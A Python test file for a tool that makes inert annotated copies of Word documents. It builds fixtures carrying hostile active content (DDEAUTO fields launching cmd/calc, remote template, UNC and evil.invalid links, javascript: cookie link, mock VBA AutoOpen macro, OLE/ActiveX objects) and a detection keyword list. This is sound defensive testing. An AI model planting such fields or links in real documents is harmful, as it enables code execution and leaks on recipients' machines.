"""Annotated Word copies are inert (issue 21, item 3): a .docx carrying fields (DDEAUTO,
INCLUDETEXT, INCLUDEPICTURE, HYPERLINK "file:…", w:fldSimple), altChunk (external, and internal
HTML with a script), linked images (file://, UNC, http), file:/javascript:/UNC hyperlinks, a
remote attached template, macros (a .docm package named .docx), embedded and linked OLE objects
and ActiveX controls — in the body and in headers, footers, footnotes, endnotes and comments —
goes through ``perfbook recalc``; its copy keeps the text and the tables, has none of them, says
in its 复核结果 what was removed, every part well-formed; the findings are those of the same
table without the active content, and the original is untouched.

Every document is generated here from the sample workbook (tests/office_formats.py ``to_docx``)
with the active content injected as XML (nothing binary is checked in).
"""

from __future__ import annotations

import io
import json
import re
import zipfile
from pathlib import Path

import docx
import pytest
from lxml import etree

from tests.hostile_corpus import GOOD
from tests.office_formats import to_docx
from workbook_builder.cli import main
from workbook_builder.recalc.inert_docx import is_web_link, removal_note, verify

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MS_RT = "http://schemas.microsoft.com/office/2006/relationships/"
NS = (f'xmlns:w="{W_NS}" xmlns:r="{R_NS}" xmlns:v="urn:schemas-microsoft-com:vml" '
      'xmlns:o="urn:schemas-microsoft-com:office:office" '
      'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
      'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
      'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"')
PROJECT = "朝阳区政府网站功能和监测服务项目"
PNG = bytes.fromhex("89504E470D0A1A0A0000000D4948445200000001000000010806000000"
                    "1F15C4890000000D49444154789C6360000002000154A24F5D0000000049454E44AE426082")
DOCUMENT_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"


# --- building documents ----------------------------------------------------------------------

def complex_field(instruction: str, result: str = "") -> str:
    """The runs of a complex field: begin, instruction, separate, result, end."""
    shown = f'<w:r><w:t xml:space="preserve">{result}</w:t></w:r>' if result else ""
    return ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f'<w:r><w:instrText xml:space="preserve"> {instruction} </w:instrText></w:r>'
            f'<w:r><w:fldChar w:fldCharType="separate"/></w:r>{shown}'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>')


def simple_field(instruction: str, result: str) -> str:
    return f'<w:fldSimple w:instr="{instruction}"><w:r><w:t>{result}</w:t></w:r></w:fldSimple>'


def linked_picture(r_id: str, embed: str | None = None) -> str:
    embedded = f' r:embed="{embed}"' if embed else ""
    return ('<w:r><w:drawing><wp:inline><wp:extent cx="95250" cy="95250"/><wp:docPr id="7" name="图片"/>'
            '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
            '<pic:pic><pic:nvPicPr><pic:cNvPr id="7" name="x.png"/><pic:cNvPicPr/></pic:nvPicPr>'
            f'<pic:blipFill><a:blip r:link="{r_id}"{embedded}/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
            '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="95250" cy="95250"/></a:xfrm>'
            '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic>'
            '</wp:inline></w:drawing></w:r>')


def ole_object(image_id: str, ole_id: str, link: bool = False) -> str:
    kind = 'Type="Link" UpdateMode="Always"' if link else 'Type="Embed"'
    return ('<w:r><w:object w:dxaOrig="1440" w:dyaOrig="1440"><v:shape id="_x0000_i1025" type="#_x0000_t75" '
            f'style="width:72pt;height:72pt" o:ole=""><v:imagedata r:id="{image_id}" o:title=""/></v:shape>'
            f'<o:OLEObject {kind} ProgID="Excel.Sheet.12" ShapeID="_x0000_i1025" DrawAspect="Content" '
            f'ObjectID="_1" r:id="{ole_id}"/></w:object></w:r>')


def paragraph(*runs: str) -> str:
    return f"<w:p>{''.join(runs)}</w:p>"


def rels_xml(rels) -> bytes:
    items = "".join(
        f'<Relationship Id="{i}" Type="{t if t.startswith("http") else RT + t}" Target="{target}"'
        + (' TargetMode="External"' if external else "") + "/>"
        for i, t, target, external in rels)
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{items}'
            "</Relationships>").encode()


def story(root: str, body: str) -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:{root} {NS}>{body}</w:{root}>'.encode()


def inject(source: Path, dest: Path, *, body: str = "", cell=None, rels=(), parts=None, overrides=None,
           defaults=None, settings: str = "", settings_rels=(), sect: str = "", main_type: str | None = None,
           document=None) -> Path:
    """A copy of the Word package ``source`` with active content put in: ``body`` before the body's
    section properties, ``cell(xml)`` rewriting the document XML, ``rels`` (id, type, target,
    external) added to the document's relationships, ``parts`` added (with their content types in
    ``overrides``/``defaults``), ``settings`` into settings.xml (``settings_rels`` its
    relationships), ``sect`` at the start of the section properties, the main part's content
    type replaced by ``main_type``."""
    with zipfile.ZipFile(source) as src:
        files = {info.filename: src.read(info) for info in src.infolist()}
    xml = files["word/document.xml"].decode()
    if body:
        xml = xml.replace("<w:sectPr", body + "<w:sectPr", 1)
    if sect:
        xml = re.sub(r"(<w:sectPr[^>]*>)", lambda m: m.group(1) + sect, xml, count=1)
    if cell:
        xml = cell(xml)
    if document:
        xml = document(xml)
    if 'xmlns:pic=' not in xml:
        xml = xml.replace("<w:document ", '<w:document xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
                          'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" ', 1)
    files["word/document.xml"] = xml.encode()
    if rels:
        files["word/_rels/document.xml.rels"] = files["word/_rels/document.xml.rels"].replace(
            b"</Relationships>", rels_xml(rels).split(b"relationships\">", 1)[1])
    if settings:
        files["word/settings.xml"] = re.sub(rb"(<w:settings[^>]*>)", lambda m: m.group(1) + settings.encode(),
                                            files["word/settings.xml"], count=1)
    if settings_rels:
        files["word/_rels/settings.xml.rels"] = rels_xml(settings_rels)
    types = files["[Content_Types].xml"].decode()
    for name, content_type in (overrides or {}).items():
        types = types.replace("</Types>", f'<Override PartName="{name}" ContentType="{content_type}"/></Types>')
    for ext, content_type in (defaults or {}).items():
        types = types.replace("<Default ", f'<Default Extension="{ext}" ContentType="{content_type}"/><Default ', 1)
    if main_type:
        types = types.replace(DOCUMENT_TYPE, main_type)
    files["[Content_Types].xml"] = types.encode()
    files.update(parts or {})
    with zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in files.items():
            out.writestr(name, data)
    return dest


def in_project_cell(wrap):
    """Rewrite the run holding the project name (a cell of the 自评表) with ``wrap(run)``."""
    run = f"<w:r><w:t>{PROJECT}</w:t></w:r>"

    def edit(xml: str) -> str:
        assert run in xml
        return xml.replace(run, wrap(run), 1)
    return edit


def last_empty_cell(content: str):
    """Put ``content`` in place of the empty paragraph of the table's last cell."""
    def edit(xml: str) -> str:
        at = xml.rindex("<w:p/></w:tc></w:tr></w:tbl>")
        return xml[:at] + content + xml[at + len("<w:p/>"):]
    return edit


def variants(base: Path, folder: Path) -> dict[str, dict]:
    """name -> what it carries: the removal note's words and what the copy must keep."""
    made = {}

    def add(name, words, keep=(), **kw):
        inject(base, folder / f"{name}.docx", **kw)
        made[name] = {"words": words, "keep": keep}

    add("域代码", ["域代码 5 处"], keep=("DDE 显示的文字", "包含的文字", PROJECT, "简单域的结果"),
        body=paragraph(complex_field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"', "DDE 显示的文字"))
        + paragraph(complex_field('INCLUDETEXT "\\\\\\\\evil.invalid\\\\share\\\\x.docx"', "包含的文字"))
        + paragraph(complex_field('INCLUDEPICTURE "http://evil.invalid/x.png" \\\\d'))
        + paragraph(simple_field("INCLUDETEXT &quot;C:\\\\secret.txt&quot;", "简单域的结果")),
        cell=in_project_cell(lambda run: complex_field('HYPERLINK "file:///C:/Windows/System32/calc.exe"', PROJECT)))
    add("嵌套域", ["域代码 5 处"], keep=("外层结果", "名称"),
        body=paragraph('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                       '<w:r><w:instrText xml:space="preserve"> IF </w:instrText></w:r>'
                       + complex_field("DDEAUTO cmd calc", "内层结果")
                       + '<w:r><w:instrText xml:space="preserve"> = 1 "a" "b" </w:instrText></w:r>'
                       '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>外层结果</w:t></w:r>'
                       '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
        + paragraph(simple_field("FILENAME", "名称"))
        + paragraph('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE cmd</w:instrText></w:r>'),
        cell=in_project_cell(lambda run: simple_field("MERGEFIELD 项目", run)[:-len("</w:fldSimple>")].replace(
            f"<w:r><w:t>{run}</w:t></w:r>", run) + "</w:fldSimple>"))
    add("altChunk外部", ["嵌入的外部内容块 1 处"],
        rels=[("rIdAC1", "aFChunk", "http://evil.invalid/chunk.html", True)],
        body='<w:altChunk r:id="rIdAC1"/>')
    add("altChunk内部", ["嵌入的外部内容块 2 处"],
        rels=[("rIdAC1", "aFChunk", "afchunk1.htm", False), ("rIdAC2", "aFChunk", "afchunk2.mht", False)],
        parts={"word/afchunk1.htm": b"<html><body><script>alert(1)</script><p>x</p></body></html>",
               "word/afchunk2.mht": b"MIME-Version: 1.0\r\n\r\n<script>alert(2)</script>"},
        overrides={"/word/afchunk1.htm": "text/html", "/word/afchunk2.mht": "message/rfc822"},
        body='<w:altChunk r:id="rIdAC1"/>', cell=last_empty_cell('<w:altChunk r:id="rIdAC2"/>'))
    add("外部图片", ["外部链接 4 处"], keep=("图片后的文字",),
        rels=[("rIdI1", "image", "file://evil.invalid/share/x.png", True),
              ("rIdI2", "image", "\\\\evil.invalid\\share\\y.png", True),
              ("rIdI3", "image", "http://evil.invalid/z.png", True),
              ("rIdI4", "image", "file:///C:/pictures/v.png", True),
              ("rIdI5", "image", "media/kept.png", False)],
        parts={"word/media/kept.png": PNG}, defaults={"png": "image/png"},
        body=paragraph(linked_picture("rIdI1"), linked_picture("rIdI2"), linked_picture("rIdI3", embed="rIdI5"),
                       '<w:r><w:pict><v:shape style="width:10pt;height:10pt"><v:imagedata r:id="rIdI4" '
                       'o:href="file:///C:/pictures/v.png"/></v:shape></w:pict></w:r>',
                       "<w:r><w:t>图片后的文字</w:t></w:r>"))
    add("外部超链接", ["外部链接 4 处"], keep=("脚本链接", "文件链接", "共享链接", "邮件链接", "网页链接"),
        rels=[("rIdH1", "hyperlink", "javascript:alert(document.cookie)", True),
              ("rIdH2", "hyperlink", "file:///C:/Windows/System32/calc.exe", True),
              ("rIdH3", "hyperlink", "\\\\evil.invalid\\share\\run.exe", True),
              ("rIdH4", "hyperlink", "mailto:a@evil.invalid", True),
              ("rIdH5", "hyperlink", "https://www.example.org/ok", True)],
        body=paragraph(*(f'<w:hyperlink r:id="rIdH{n}"><w:r><w:t>{text}</w:t></w:r></w:hyperlink>'
                         for n, text in enumerate(("脚本链接", "文件链接", "共享链接", "邮件链接", "网页链接"), 1))))
    add("远程模板", ["附加模板 1 处"], settings='<w:attachedTemplate r:id="rIdT1"/>',
        settings_rels=[("rIdT1", "attachedTemplate", "http://evil.invalid/template.dotm", True)])
    add("共享模板", ["附加模板 1 处", "外部链接 1 处"],
        settings='<w:attachedTemplate r:id="rIdT1"/><w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
                 '<w:dataSource r:id="rIdM1"/></w:mailMerge>',
        settings_rels=[("rIdT1", "attachedTemplate", "\\\\evil.invalid\\templates\\x.dotm", True),
                       ("rIdM1", "mailMergeSource", "file:///C:/data/people.xlsx", True)])
    add("宏", ["宏已删除"], main_type=MACRO_TYPE,
        rels=[("rIdV1", MS_RT + "vbaProject", "vbaProject.bin", False),
              ("rIdK1", MS_RT + "keyMapCustomizations", "customizations.xml", False)],
        parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0VBA Attribute VB_Name AutoOpen Shell calc",
               "word/_rels/vbaProject.bin.rels": rels_xml([("rId1", MS_RT + "wordVbaData", "vbaData.xml", False)]),
               "word/vbaData.xml": b'<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>',
               "word/customizations.xml": b'<wne:tcg xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>'},
        defaults={"bin": "application/vnd.ms-office.vbaProject"},
        overrides={"/word/vbaData.xml": "application/vnd.ms-word.vbaData+xml",
                   "/word/customizations.xml": "application/vnd.ms-word.keyMapCustomizations+xml"})
    add("嵌入对象", ["嵌入对象（OLE/ActiveX 控件） 3 处"], keep=("对象后的文字",),
        rels=[("rIdP1", "image", "media/preview.png", False),
              ("rIdO1", "oleObject", "embeddings/oleObject1.bin", False),
              ("rIdO2", "oleObject", "file:///C:/data/linked.xlsx", True),
              ("rIdX1", "control", "activeX/activeX1.xml", False)],
        parts={"word/media/preview.png": PNG,
               "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 Package \x00 calc.exe",
               "word/activeX/activeX1.xml": b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
                                            b'ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>'},
        defaults={"png": "image/png", "bin": "application/vnd.openxmlformats-officedocument.oleObject"},
        overrides={"/word/activeX/activeX1.xml": "application/vnd.ms-office.activeX+xml"},
        body=paragraph(ole_object("rIdP1", "rIdO1"), ole_object("rIdP1", "rIdO2", link=True),
                       '<w:r><w:object><w:control r:id="rIdX1" w:name="CommandButton1"/></w:object></w:r>',
                       "<w:r><w:t>对象后的文字</w:t></w:r>"))
    # a field around the very cell that gets the finding's comment (built with python-docx + lxml)
    document = docx.Document(str(base))
    run = document.tables[0].cell(11, 9)._tc.xpath(".//w:r")[0]
    for xml in (re.findall(r"<w:r>.*?</w:r>", complex_field('INCLUDETEXT "file:///C:/score.txt"', "@"))):
        if "@" in xml:
            continue
        new = etree.fromstring(f"<w:x {NS}>{xml}</w:x>")[0]
        run.addprevious(new) if "end" not in xml else run.addnext(new)
    document.save(folder / "得分单元格域.docx")
    made["得分单元格域"] = {"words": ["域代码 1 处"], "keep": ("10",)}
    header = story("hdr", paragraph(complex_field("DDEAUTO cmd \"/c calc\"", "页眉域结果"),
                                    '<w:hyperlink r:id="rId1"><w:r><w:t>页眉链接</w:t></w:r></w:hyperlink>'))
    footer = story("ftr", paragraph(simple_field("INCLUDEPICTURE &quot;\\\\\\\\evil.invalid\\\\p.png&quot;", "页脚域结果"))
                   + '<w:altChunk r:id="rId1"/>')
    notes = "".join(f'<w:{kind} w:type="{t}" w:id="{i}"><w:p><w:r><w:t/></w:r></w:p></w:{kind}>'
                    for kind in ("footnote",) for i, t in ((-1, "separator"), (0, "continuationSeparator")))
    footnotes = story("footnotes", notes + '<w:footnote w:id="1">' + paragraph(
        complex_field('INCLUDETEXT "file:///C:/secret.txt"', "脚注域结果"), linked_picture("rId1")) + "</w:footnote>")
    endnotes = story("endnotes", notes.replace("footnote", "endnote") + '<w:endnote w:id="1">'
                     + paragraph(simple_field("DDEAUTO x y", "尾注域结果"), ole_object("rId2", "rId1")) + "</w:endnote>")
    comments = story("comments", '<w:comment w:id="0" w:author="发件人" w:initials="F">'
                     + paragraph(complex_field('HYPERLINK "file:///C:/x"', "批注域结果"),
                                 '<w:hyperlink r:id="rId1"><w:r><w:t>批注链接</w:t></w:r></w:hyperlink>')
                     + "</w:comment>")
    ct = "application/vnd.openxmlformats-officedocument.wordprocessingml."
    add("页眉页脚脚注批注", ["域代码 5 处", "外部链接 4 处", "嵌入的外部内容块 1 处", "嵌入对象（OLE/ActiveX 控件） 1 处"],
        keep=("页眉域结果", "页眉链接", "页脚域结果", "脚注域结果", "尾注域结果", "批注域结果", "批注链接"),
        rels=[("rIdS1", "header", "header1.xml", False), ("rIdS2", "footer", "footer1.xml", False),
              ("rIdS3", "footnotes", "footnotes.xml", False), ("rIdS4", "endnotes", "endnotes.xml", False),
              ("rIdS5", "comments", "comments.xml", False)],
        sect='<w:headerReference w:type="default" r:id="rIdS1"/><w:footerReference w:type="default" r:id="rIdS2"/>',
        body=paragraph('<w:commentRangeStart w:id="0"/><w:r><w:t>有批注的文字</w:t></w:r><w:commentRangeEnd w:id="0"/>',
                       '<w:r><w:commentReference w:id="0"/></w:r>',
                       '<w:r><w:footnoteReference w:id="1"/></w:r><w:r><w:endnoteReference w:id="1"/></w:r>'),
        parts={"word/header1.xml": header, "word/footer1.xml": footer, "word/footnotes.xml": footnotes,
               "word/endnotes.xml": endnotes, "word/comments.xml": comments,
               "word/_rels/header1.xml.rels": rels_xml([("rId1", "hyperlink", "file:///C:/Windows/notepad.exe", True)]),
               "word/_rels/footer1.xml.rels": rels_xml([("rId1", "aFChunk", "http://evil.invalid/f.html", True)]),
               "word/_rels/footnotes.xml.rels": rels_xml([("rId1", "image", "\\\\evil.invalid\\x.png", True)]),
               "word/_rels/endnotes.xml.rels": rels_xml([("rId1", "oleObject", "file:///C:/o.xlsx", True),
                                                         ("rId2", "image", "http://evil.invalid/p.png", True)]),
               "word/_rels/comments.xml.rels": rels_xml([("rId1", "hyperlink", "javascript:alert(1)", True)])},
        overrides={"/word/header1.xml": ct + "header+xml", "/word/footer1.xml": ct + "footer+xml",
                   "/word/footnotes.xml": ct + "footnotes+xml", "/word/endnotes.xml": ct + "endnotes+xml",
                   "/word/comments.xml": ct + "comments+xml"})
    return made


# --- checking copies -------------------------------------------------------------------------

def active_content(path: Path) -> list[str]:
    """What is still active in a Word package: each problem as a line (empty: inert)."""
    problems = []
    with zipfile.ZipFile(path) as package:
        names = package.namelist()
        for name in names:
            lower = name.lower()
            if "vbaproject" in lower or "embeddings/" in lower or "activex" in lower or lower.endswith((".bin", ".htm", ".mht")):
                problems.append(f"part {name}")
            if not lower.endswith((".xml", ".rels")):
                continue
            data = package.read(name)
            try:
                root = etree.fromstring(data, etree.XMLParser(resolve_entities=False, no_network=True))
            except etree.XMLSyntaxError as err:
                problems.append(f"{name} not well-formed: {err}")
                continue
            if re.search(rb"<!(?i:doctype|entity)", data):
                problems.append(f"{name} declares a DTD")
            for word in (b"instrText", b"fldSimple", b"fldChar", b"w:altChunk", b"attachedTemplate", b"w:object",
                         b"OLEObject", b"w:control", b"mailMerge", b"file:", b"javascript:", b"evil.invalid"):
                if word in data:
                    problems.append(f"{name} has {word.decode()}")
            if lower.endswith(".rels"):
                for rel in root:
                    kind = rel.get("Type", "").rsplit("/", 1)[-1]
                    if kind in ("aFChunk", "attachedTemplate", "vbaProject", "oleObject", "control", "package",
                                "keyMapCustomizations", "wordVbaData"):
                        problems.append(f"{name} keeps a {kind} relationship")
                    if rel.get("TargetMode") == "External" and not (
                            kind == "hyperlink" and re.match(r"https?://", rel.get("Target", ""))):
                        problems.append(f"{name} links outside: {rel.get('Target')}")
        types = package.read("[Content_Types].xml").decode()
        if "macroEnabled" in types or "vbaProject" in types or DOCUMENT_TYPE not in types:
            problems.append("content types are not a plain document's")
    return problems


def document_text(path: Path) -> str:
    """All the text of every XML part of a package (w:t), joined."""
    texts = []
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if name.endswith(".xml"):
                root = etree.fromstring(package.read(name))
                texts.extend(t.text or "" for t in root.iter(f"{{{W_NS}}}t"))
    return "\n".join(texts)


FINDING_KEYS = ("project", "sheet", "reported_total", "computed_total", "grade", "findings")


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    root = tmp_path_factory.mktemp("inert")
    folder = root / "in"
    folder.mkdir()
    base = to_docx(GOOD, folder / "原样.docx") and folder / "原样.docx"
    made = variants(base, folder)
    before = {p.name: p.read_bytes() for p in folder.iterdir()}
    result = root / "result.json"
    rc = main(["recalc", str(folder), "-o", str(root / "out"), "--json", str(result), "--jobs", "1"])
    data = json.loads(result.read_text(encoding="utf-8"))
    return {"rc": rc, "data": data, "made": made, "folder": folder, "out": root / "out", "before": before}


def _table(run, stem):
    [table] = [t for t in run["data"]["tables"] if Path(t["file"]).stem == stem]
    return table


def test_every_variant_is_read_with_the_findings_of_the_plain_table(run):
    assert run["rc"] in (0, 1) and run["data"]["unreadable"] == []
    plain = _table(run, "原样")
    assert plain["findings"] and plain["annotated"] == "原样_复核.docx"
    for name in run["made"]:
        table = _table(run, name)
        assert {k: table[k] for k in FINDING_KEYS} == {k: plain[k] for k in FINDING_KEYS}, name
        assert table["annotated"] == f"{name}_复核.docx" and table["annotation_error"] is None, name


@pytest.mark.parametrize("name", ["域代码", "得分单元格域", "嵌套域", "altChunk外部", "altChunk内部", "外部图片", "外部超链接", "远程模板",
                                  "共享模板", "宏", "嵌入对象", "页眉页脚脚注批注"])
def test_copy_is_inert_keeps_the_text_and_says_what_was_removed(run, name):
    original = run["folder"] / f"{name}.docx"
    assert original.read_bytes() == run["before"][original.name]
    assert active_content(original), "the test document carries no active content"
    copy = run["out"] / f"{name}_复核.docx"
    assert active_content(copy) == []
    assert verify(copy.read_bytes()) is None
    text = document_text(copy)
    for kept in run["made"][name]["keep"]:
        assert kept in text, kept
    document = docx.Document(str(copy))
    notes = [p.text for p in document.paragraphs if p.text.startswith("原文件中的")]
    assert len(notes) == 1 and notes[0].endswith("，副本只保留文字和表格"), notes
    for words in run["made"][name]["words"]:
        assert words in notes[0], (words, notes[0])
    # the marking up is as on the plain document: the finding's cell shaded and commented
    assert any("perfbook 复核" in c.text for c in document.comments)
    assert 'w:fill="FF9999"' in document.tables[0].cell(11, 9)._tc.xml
    assert document.tables[0].cell(11, 9).text == "10"
    assert document.tables[0].cell(0, 2).text == PROJECT
    assert [c.text for c in document.tables[-1].rows[0].cells][:3] == ["表格", "项目名称", "位置"]


def test_plain_copy_says_nothing_was_removed(run):
    copy = run["out"] / "原样_复核.docx"
    assert active_content(copy) == []
    assert not [p for p in docx.Document(str(copy)).paragraphs if p.text.startswith("原文件中的")]


def test_web_hyperlink_is_kept(run):
    copy = run["out"] / "外部超链接_复核.docx"
    with zipfile.ZipFile(copy) as package:
        rels = package.read("word/_rels/document.xml.rels").decode()
        body = package.read("word/document.xml").decode()
    assert "https://www.example.org/ok" in rels and body.count("<w:hyperlink") == 1


def test_macro_document_copy_is_a_plain_docx(run):
    copy = run["out"] / "宏_复核.docx"
    with zipfile.ZipFile(copy) as package:
        types = package.read("[Content_Types].xml").decode()
        assert not [n for n in package.namelist() if "vba" in n.lower() or "customizations" in n.lower()]
    assert DOCUMENT_TYPE in types and "macroEnabled" not in types
    docx.Document(str(copy))   # python-docx (which refuses a .docm) opens it


def test_every_copy_part_is_well_formed(run):
    for copy in run["out"].glob("*.docx"):
        with zipfile.ZipFile(copy) as package:
            for name in package.namelist():
                if name.endswith((".xml", ".rels")):
                    etree.fromstring(package.read(name))


def test_verify_finds_what_a_copy_must_not_have(tmp_path):
    base = to_docx(GOOD, tmp_path / "a.docx") and tmp_path / "a.docx"
    assert verify(base.read_bytes()) is None
    linked = inject(base, tmp_path / "b.docx", rels=[("rIdX", "image", "file:///C:/x.png", True)])
    assert "外部链接" in verify(linked.read_bytes())
    macro = inject(base, tmp_path / "c.docx", main_type=MACRO_TYPE)
    assert "macroenabled" in verify(macro.read_bytes())
    broken = inject(base, tmp_path / "d.docx", parts={"word/settings.xml": b"<w:settings"})
    assert "不是有效的 XML" in verify(broken.read_bytes())
    dtd = inject(base, tmp_path / "e.docx", parts={"word/settings.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'})
    assert "DTD" in verify(dtd.read_bytes())


# --- the pieces ------------------------------------------------------------------------------

@pytest.mark.parametrize("target,web", [
    ("http://example.org/a", True), ("HTTPS://example.org/a?b=c#d", True), ("https://[::1]/x", True),
    ("file:///C:/x", False), ("\\\\server\\share", False), ("javascript:alert(1)", False), ("http:\\\\server\\x", False),
    ("http://", False), ("mailto:a@b.c", False), ("http://host/a b", False), ("//server/share", False), ("", False)])
def test_web_links(target, web):
    assert is_web_link(target) is web


def test_removal_note():
    from collections import Counter

    assert removal_note(Counter()) is None
    assert removal_note(Counter(field=3, external=2, macro=1)) == (
        "原文件中的域代码 3 处、外部链接 2 处、宏已删除（域代码只保留显示的文字），副本只保留文字和表格")
    assert removal_note(Counter(template=1)) == "原文件中的附加模板 1 处已删除，副本只保留文字和表格"


def test_neutralise_counts_and_keeps_field_results(tmp_path):
    from workbook_builder.readers.docx import open_document
    from workbook_builder.recalc.inert_docx import neutralise

    base = to_docx(GOOD, tmp_path / "a.docx") and tmp_path / "a.docx"
    path = inject(base, tmp_path / "b.docx", main_type=MACRO_TYPE,
                  body=paragraph("<w:r><w:t>前</w:t></w:r>", complex_field("DDEAUTO a b", "中"), "<w:r><w:t>后</w:t></w:r>"),
                  rels=[("rIdV1", MS_RT + "vbaProject", "vbaProject.bin", False)],
                  parts={"word/vbaProject.bin": b"x"}, defaults={"bin": "application/vnd.ms-office.vbaProject"})
    document = open_document(path.read_bytes())
    counts = neutralise(document)
    assert dict(counts) == {"field": 1, "macro": 1}
    assert [p.text for p in document.paragraphs if "中" in p.text] == ["前中后"]
    buffer = io.BytesIO()
    document.save(buffer)
    assert verify(buffer.getvalue()) is None


def test_references_in_the_strict_namespace_and_vml_relid_are_removed(tmp_path):
    """Relationship attributes come in two namespaces (transitional r:, strict purl) and VML's
    o:relid: a reference to a relationship the copy drops goes, in any of them."""
    from workbook_builder.readers.docx import open_document
    from workbook_builder.recalc.inert_docx import neutralise

    strict = "http://purl.oclc.org/ooxml/officeDocument/relationships"
    base = to_docx(GOOD, tmp_path / "a.docx") and tmp_path / "a.docx"
    body = paragraph(f'<w:hyperlink xmlns:rs="{strict}" rs:id="rIdS1"><w:r><w:t>严格命名空间的链接</w:t></w:r></w:hyperlink>',
                     '<w:r><w:pict><v:shape id="s1" style="width:9pt;height:9pt"><v:imagedata o:relid="rIdS2"/>'
                     '</v:shape></w:pict></w:r><w:r><w:t>VML 之后</w:t></w:r>')
    path = inject(base, tmp_path / "b.docx", body=body,
                  rels=[("rIdS1", "hyperlink", "file:///C:/Windows/System32/calc.exe", True),
                        ("rIdS2", "image", "file://evil.invalid/share/x.png", True)])
    document = open_document(path.read_bytes())
    assert neutralise(document)["external"] == 2
    xml = etree.tostring(document.element, encoding="unicode")
    assert "rIdS1" not in xml and "rIdS2" not in xml and "imagedata" not in xml
    assert "严格命名空间的链接" in xml and "VML 之后" in xml


def test_a_document_without_section_properties_gets_its_copy(tmp_path):
    """<w:sectPr> is optional in a document body (Word uses its page defaults): the copy of such a
    document is written with its 复核结果 table, no annotation error, no traceback."""
    folder = tmp_path / "in"
    folder.mkdir()
    plain = to_docx(GOOD, tmp_path / "plain.docx") and tmp_path / "plain.docx"
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(folder / "无节.docx", "w") as dest:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "word/document.xml":
                data = re.sub(rb"<w:sectPr\b.*?</w:sectPr>", b"", data, flags=re.S)
                assert b"sectPr" not in data
            dest.writestr(item, data)
    result = tmp_path / "r.json"
    assert main(["recalc", str(folder), "-o", str(tmp_path / "out"), "--json", str(result), "--jobs", "1"]) in (0, 1)
    [table] = json.loads(result.read_text(encoding="utf-8"))["tables"]
    assert table["annotated"] == "无节_复核.docx" and table["annotation_error"] is None
    assert "复核结果（perfbook）" in document_text(tmp_path / "out" / "无节_复核.docx")
